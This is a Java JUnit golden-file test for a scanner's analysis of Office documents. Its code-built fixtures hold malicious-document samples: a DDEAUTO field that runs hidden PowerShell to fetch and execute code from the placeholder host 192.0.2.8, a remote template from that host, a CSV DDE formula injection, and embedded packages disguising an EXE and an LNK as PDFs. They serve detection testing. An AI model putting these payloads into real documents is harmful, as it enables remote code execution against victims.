package dev.prefilter.engine.office;

import static org.junit.jupiter.api.Assertions.assertEquals;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.prefilter.engine.report.Report;
import dev.prefilter.engine.report.ReportJson;
import dev.prefilter.engine.report.ReportNode;
import dev.prefilter.engine.testing.TestEngines;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Golden files for the Office object, link, DDE and RTF analysis: the fixture is built by code,
 * its expected analysis (tree, types, findings with evidence, the analyzers' facts) is
 * {@code fixtures/office/<case>.expected.json}. Run with {@code -Dgolden.update=true} to rewrite
 * the files after an intended change, then review the diff.
 */
class OfficeGoldenTest {

    private static final ObjectMapper JSON = ReportJson.mapper();
    private static final List<String> FACTS = List.of("oleObjects", "externalRelationships", "dde", "rtfObjects");

    static Stream<Arguments> cases() {
        return Stream.of(
                Arguments.of(
                        "package-exe-and-command-in-doc",
                        "invoice.doc",
                        OfficeFixtures.wordWithObjects(new java.util.TreeMap<>(Map.of(
                                "_1573545115",
                                        OfficeFixtures.packageStream(
                                                "Invoice.pdf",
                                                "C:\\Users\\x\\Invoice.exe",
                                                "C:\\Temp\\Invoice.exe",
                                                OfficeFixtures.EXE),
                                "_1573545116",
                                        OfficeFixtures.commandPackageStream(
                                                "calc.exe",
                                                "C:\\Windows\\System32\\calc.exe",
                                                "C:\\Windows\\System32\\calc.exe"))))),
                Arguments.of("rtf-package-lnk-and-equation", "form.rtf", rtfWithLnkAndEquation()),
                Arguments.of("docx-dde-and-remote-template", "letter.docx", docxWithDdeAndTemplate()),
                Arguments.of(
                        "csv-dde",
                        "export.csv",
                        "id,name\r\n1,=cmd|' /C calc'!A0\r\n".getBytes(StandardCharsets.US_ASCII)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void analysisMatchesTheGoldenFile(String name, String fileName, byte[] input) throws IOException {
        Report report = TestEngines.scanFile(fileName, input);
        JsonNode actual = project(report);
        String resource = "fixtures/office/" + name + ".expected.json";
        if (Boolean.getBoolean("golden.update")) {
            Path file = Path.of("src/test/resources", resource);
            Files.createDirectories(file.getParent());
            Files.writeString(file, JSON.writerWithDefaultPrettyPrinter().writeValueAsString(actual) + "\n");
        }
        JsonNode expected;
        try (InputStream in = getClass().getClassLoader().getResourceAsStream(resource)) {
            if (in == null) {
                throw new AssertionError("no golden file " + resource + "; run with -Dgolden.update=true to create it");
            }
            expected = JSON.readTree(in);
        }
        assertEquals(
                JSON.writerWithDefaultPrettyPrinter().writeValueAsString(expected),
                JSON.writerWithDefaultPrettyPrinter().writeValueAsString(actual));
    }

    /**
     * What the golden file pins: verdict, and per node its name, origin, type, pinned findings and
     * this family's facts.
     */
    private static JsonNode project(Report report) {
        ObjectNode root = JSON.createObjectNode();
        root.put("verdict", report.verdict().name().toLowerCase(java.util.Locale.ROOT));
        root.set("tree", node(report.root()));
        return root;
    }

    /**
     * This family's findings everywhere, and the type and name findings of extracted children
     * (how a payload was typed); other analyzers' findings on the document itself are theirs to pin.
     */
    private static boolean pinned(ReportNode n, dev.prefilter.engine.model.Finding f) {
        String code = f.code();
        if (ReportChecks.OUR_PREFIXES.stream().anyMatch(code::startsWith)) return true;
        if (code.startsWith("parse.ole")
                || code.startsWith("parse.rtf")
                || code.startsWith("parse.dde")
                || code.startsWith("parse.ooxml")) return true;
        return n.origin() == dev.prefilter.engine.analyze.Origin.EMBEDDED
                && (code.startsWith("type.") || code.startsWith("name."));
    }

    private static ObjectNode node(ReportNode n) {
        ObjectNode out = JSON.createObjectNode();
        out.put("name", n.name());
        out.put("origin", n.origin().label());
        out.put("detectedType", n.detectedType());
        ArrayNode findings = out.putArray("findings");
        n.findings().stream().filter(f -> pinned(n, f)).forEach(f -> {
            ObjectNode fo = findings.addObject();
            fo.put("code", f.code());
            fo.put("severity", f.severity().label());
            fo.set("evidence", JSON.valueToTree(f.evidence()));
        });
        Map<String, Object> facts = new LinkedHashMap<>();
        FACTS.forEach(k -> {
            if (n.facts().containsKey(k)) facts.put(k, n.facts().get(k));
        });
        if (!facts.isEmpty()) {
            out.set("facts", JSON.valueToTree(facts));
        }
        if (!n.children().isEmpty()) {
            ArrayNode children = out.putArray("children");
            n.children().forEach(c -> children.add(node(c)));
        }
        return out;
    }

    private static byte[] rtfWithLnkAndEquation() {
        byte[] lnk = OfficeFixtures.ole1Embedded(
                "Package",
                OfficeFixtures.packageNativeData(
                        "Scan_0412.pdf.lnk",
                        "C:\\Users\\x\\Scan_0412.pdf.lnk",
                        "C:\\Temp\\Scan_0412.pdf.lnk",
                        OfficeFixtures.LNK));
        byte[] eq = OfficeFixtures.ole1Embedded("Equation.3", new byte[] {1, 2, 3, 4});
        String doc = "{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + OfficeFixtures.hex(lnk)
                + "}}" + "{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata " + OfficeFixtures.hex(eq)
                + "}}}";
        return doc.getBytes(StandardCharsets.US_ASCII);
    }

    private static byte[] docxWithDdeAndTemplate() {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", OfficeFixtures.utf8("""
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
                <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
                <Default Extension="xml" ContentType="application/xml"/>
                <Override PartName="/word/document.xml" \
                ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
                <Override PartName="/word/settings.xml" \
                ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>
                </Types>"""));
        parts.put("_rels/.rels", OfficeFixtures.utf8("""
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                <Relationship Id="rId1" \
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" \
                Target="word/document.xml"/>
                </Relationships>"""));
        parts.put("word/document.xml", OfficeFixtures.utf8("""
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
                <w:p><w:r><w:t>See https://example.com for details.</w:t></w:r></w:p>
                <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO \
                c:\\\\windows\\\\system32\\\\cmd.exe "/k powershell -w hidden -c iex(iwr http://192.0.2.8/p)" \
                </w:instrText></w:r>
                <w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!Unexpected End of \
                Formula</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
                </w:body></w:document>"""));
        parts.put("word/_rels/document.xml.rels", OfficeFixtures.utf8("""
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                <Relationship Id="rId1" \
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" \
                Target="settings.xml"/>
                <Relationship Id="rId2" \
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" \
                Target="https://example.com" TargetMode="External"/>
                </Relationships>"""));
        parts.put("word/settings.xml", OfficeFixtures.utf8("""
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" \
                xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">\
                <w:attachedTemplate r:id="rId1"/></w:settings>"""));
        parts.put("word/_rels/settings.xml.rels", OfficeFixtures.utf8("""
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                <Relationship Id="rId1" \
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" \
                Target="http://192.0.2.8/normal.dotm" TargetMode="External"/>
                </Relationships>"""));
        return OfficeFixtures.zip(parts);
    }
}
